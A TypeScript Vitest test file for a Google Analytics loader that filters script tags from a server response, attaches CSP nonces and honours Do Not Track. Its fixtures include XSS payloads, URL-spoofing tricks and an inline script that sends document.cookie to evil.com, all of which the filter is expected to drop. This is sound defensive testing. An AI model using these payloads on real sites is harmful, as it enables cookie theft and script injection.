/**
 * happy-dom reports every script it is not allowed to load; these tests check the injected elements,
 * not the download, so the refusal is treated as success to keep the output quiet.
 * @vitest-environment-options {"settings": {"handleDisabledFileLoadingAsSuccess": true}}
 */
import { analyticsEndpoints, GOOGLE_ANALYTICS_META_NAME } from "@hatchery/shared";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { ApiError, apiRequestText } from "@/lib/api-client";
import { loadGoogleAnalytics, selectAllowedAnalyticsScripts, sendGtagPageView } from "./google-analytics";

vi.mock("@/lib/api-client", async (importOriginal) => ({
  ...(await importOriginal<typeof import("@/lib/api-client")>()),
  apiRequestText: vi.fn(),
}));

const GTAG_JS = "https://www.googletagmanager.com/gtag/js?id=G-TEST123";
const GTAG_INLINE =
  "window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);} gtag('js', new Date()); gtag('config', 'G-TEST123');";
const SNIPPET = `<!-- Google tag (gtag.js) -->\n<script async src="${GTAG_JS}"></script>\n<script>${GTAG_INLINE}</script>`;

describe("selectAllowedAnalyticsScripts", () => {
  it("keeps the standard gtag snippet: the external loader and the inline call", () => {
    expect(selectAllowedAnalyticsScripts(SNIPPET)).toEqual([
      { kind: "external", src: GTAG_JS, async: true },
      { kind: "inline", code: GTAG_INLINE },
    ]);
  });

  it("keeps a script from www.google-analytics.com and records a missing async", () => {
    expect(
      selectAllowedAnalyticsScripts('<script src="https://www.google-analytics.com/analytics.js"></script>'),
    ).toEqual([{ kind: "external", src: "https://www.google-analytics.com/analytics.js", async: false }]);
  });

  it("normalises an upper-case allowed URL", () => {
    expect(
      selectAllowedAnalyticsScripts('<script src="HTTPS://WWW.GOOGLETAGMANAGER.COM/gtag/js"></script>'),
    ).toEqual([{ kind: "external", src: "https://www.googletagmanager.com/gtag/js", async: false }]);
  });

  it.each([
    ["plain http", "http://www.googletagmanager.com/gtag/js"],
    ["protocol-relative", "//www.googletagmanager.com/gtag/js"],
    ["relative path", "/gtag/js"],
    ["a look-alike suffix", "https://www.googletagmanager.com.evil.com/gtag/js"],
    ["the host in the query", "https://evil.com/?www.googletagmanager.com"],
    ["the host in the path", "https://evil.com/www.googletagmanager.com/gtag.js"],
    ["the host as user info", "https://www.googletagmanager.com@evil.com/gtag/js"],
    ["user info before the host", "https://user:pass@www.googletagmanager.com/gtag/js"],
    ["a parent domain", "https://googletagmanager.com/gtag/js"],
    ["a subdomain", "https://cdn.www.googletagmanager.com/gtag/js"],
    ["a trailing dot", "https://www.googletagmanager.com./gtag/js"],
    ["a non-default port", "https://www.googletagmanager.com:8443/gtag/js"],
    ["a backslash host switch", "https://evil.com\\.www.googletagmanager.com/gtag/js"],
    ["a javascript: URL", "javascript:alert(document.cookie)"],
    ["a javascript: URL hiding the host", "javascript://www.googletagmanager.com/%0Aalert(1)"],
    ["a data: URL", "data:text/javascript,alert(1)"],
    ["a blob: URL", "blob:https://www.googletagmanager.com/1234"],
    ["an empty src", ""],
  ])("drops a script src with %s", (_, src) => {
    expect(selectAllowedAnalyticsScripts(`<script async src="${src}"></script>`)).toEqual([]);
  });

  it("drops an external allowed script's inline body, event handlers and other attributes", () => {
    const [script] = selectAllowedAnalyticsScripts(
      `<script async src="${GTAG_JS}" onload="alert(1)" onerror="alert(2)" type="text/javascript" crossorigin="anonymous" integrity="x">alert(3)</script>`,
    );
    expect(script).toEqual({ kind: "external", src: GTAG_JS, async: true });
  });

  it("drops inline scripts without the analytics call", () => {
    expect(
      selectAllowedAnalyticsScripts("<script>fetch('https://evil.com/?c=' + document.cookie)</script>"),
    ).toEqual([]);
    expect(selectAllowedAnalyticsScripts("<script>gtag ('config', 'G-1')</script>")).toEqual([]);
  });

  it.each([
    "gtag('config', 'G-1'); document.write('<script src=\"https://evil.com/x.js\"></scr' + 'ipt>')",
    "gtag('config', 'G-1'); document.body.insertAdjacentHTML('beforeend', '<SCRIPT>alert(1)</SCRIPT>')",
    "gtag('config', 'G-1'); const s = '< script>';",
  ])("drops an inline script that nests a script tag: %s", (code) => {
    expect(selectAllowedAnalyticsScripts(`<script>${code}</script>`)).toEqual([]);
  });

  it("drops every other tag, however it tries to run code", () => {
    const html = [
      `<img src="x" onerror="gtag('config','G-1')">`,
      `<iframe src="about:blank" onload="gtag('config','G-1')"></iframe>`,
      `<svg onload="gtag('config','G-1')"><script>gtag('config','G-1')</script></svg>`,
      `<a href="javascript:gtag('config','G-1')">x</a>`,
      `<link rel="preload" as="script" href="${GTAG_JS}">`,
      `<object data="${GTAG_JS}"></object>`,
      `<style>@import url(https://evil.com/x.css);</style>`,
      `<template><script>gtag('config','G-1')</script></template>`,
    ].join("");
    expect(selectAllowedAnalyticsScripts(html)).toEqual([]);
  });

  it("drops scripts nested inside other elements", () => {
    expect(selectAllowedAnalyticsScripts(`<div><script async src="${GTAG_JS}"></script></div>`)).toEqual([]);
    expect(
      selectAllowedAnalyticsScripts(`<noscript><script>gtag('config','G-1')</script></noscript>`),
    ).toEqual([]);
  });

  it.each(["module", "text/plain", "text/template", "application/json", "importmap"])(
    "drops a script of type %s",
    (type) => {
      expect(selectAllowedAnalyticsScripts(`<script type="${type}">gtag('config', 'G-1')</script>`)).toEqual(
        [],
      );
      expect(selectAllowedAnalyticsScripts(`<script type="${type}" src="${GTAG_JS}"></script>`)).toEqual([]);
    },
  );

  it("keeps the allowed scripts of a document mixed with hostile ones, in order", () => {
    const html = `<html><head><script src="https://evil.com/a.js"></script><script async src="${GTAG_JS}"></script></head>
      <body><p>hello</p><script>alert(1)</script><script>${GTAG_INLINE}</script></body></html>`;
    expect(selectAllowedAnalyticsScripts(html)).toEqual([
      { kind: "external", src: GTAG_JS, async: true },
      { kind: "inline", code: GTAG_INLINE },
    ]);
  });

  it("finds nothing in an empty or script-free answer", () => {
    expect(selectAllowedAnalyticsScripts("")).toEqual([]);
    expect(selectAllowedAnalyticsScripts("G-TEST123")).toEqual([]);
  });
});

describe("loadGoogleAnalytics", () => {
  const fetchScript = vi.mocked(apiRequestText);
  let nonceMeta: HTMLMetaElement;

  beforeEach(() => {
    nonceMeta = document.createElement("meta");
    nonceMeta.setAttribute("property", "csp-nonce");
    nonceMeta.nonce = "n0nce-value";
    const configured = document.createElement("meta");
    configured.name = GOOGLE_ANALYTICS_META_NAME;
    configured.content = "on";
    document.head.append(nonceMeta, configured);
  });

  afterEach(() => {
    for (const element of document.head.querySelectorAll("script, meta")) element.remove();
    fetchScript.mockReset();
    vi.restoreAllMocks();
    Reflect.deleteProperty(navigator, "doNotTrack");
  });

  const injectedScripts = () => [...document.head.querySelectorAll("script")];

  it("asks for no script when the page says Google Analytics is not configured", async () => {
    document.head.querySelector(`meta[name="${GOOGLE_ANALYTICS_META_NAME}"]`)?.remove();
    fetchScript.mockResolvedValue(SNIPPET);
    await loadGoogleAnalytics();
    expect(fetchScript).not.toHaveBeenCalled();
    expect(injectedScripts()).toEqual([]);
  });

  it("injects the allowed scripts as fresh elements carrying the CSP nonce", async () => {
    fetchScript.mockResolvedValue(
      `${SNIPPET}<script src="https://evil.com/x.js"></script><img src=x onerror=alert(1)>`,
    );
    await loadGoogleAnalytics();

    expect(fetchScript).toHaveBeenCalledWith(analyticsEndpoints.gaScript.path);
    const [external, inline, ...rest] = injectedScripts();
    expect(rest).toEqual([]);
    expect(external?.src).toBe(GTAG_JS);
    expect(external?.async).toBe(true);
    expect(external?.nonce).toBe("n0nce-value");
    expect(inline?.text).toBe(GTAG_INLINE);
    expect(inline?.hasAttribute("src")).toBe(false);
    expect(inline?.nonce).toBe("n0nce-value");
    expect(document.querySelector("img")).toBeNull();
  });

  it("does nothing with an empty answer", async () => {
    fetchScript.mockResolvedValue("  \n");
    await loadGoogleAnalytics();
    expect(injectedScripts()).toEqual([]);
  });

  it("fails silently when the script cannot be fetched", async () => {
    const consoleSpies = (["error", "warn", "info", "log"] as const).map((level) => vi.spyOn(console, level));
    fetchScript.mockRejectedValue(new ApiError(503, "unavailable", "Service unavailable"));
    await expect(loadGoogleAnalytics()).resolves.toBeUndefined();
    expect(injectedScripts()).toEqual([]);
    for (const spy of consoleSpies) expect(spy).not.toHaveBeenCalled();
  });

  it("does not even fetch the script when the visitor asked not to be tracked", async () => {
    Object.defineProperty(navigator, "doNotTrack", { value: "1", configurable: true });
    fetchScript.mockResolvedValue(SNIPPET);
    await loadGoogleAnalytics();
    expect(fetchScript).not.toHaveBeenCalled();
    expect(injectedScripts()).toEqual([]);
  });
});

describe("sendGtagPageView", () => {
  afterEach(() => {
    Reflect.deleteProperty(window, "gtag");
  });

  it("reports the page to gtag once it exists", () => {
    const gtag = vi.fn();
    Object.assign(window, { gtag });
    document.title = "Teams";
    sendGtagPageView("/teams");
    expect(gtag).toHaveBeenCalledWith("event", "page_view", {
      page_path: "/teams",
      page_location: `${window.location.origin}/teams`,
      page_title: "Teams",
    });
  });

  it("does nothing before the snippet has loaded", () => {
    expect(() => sendGtagPageView("/teams")).not.toThrow();
  });
});
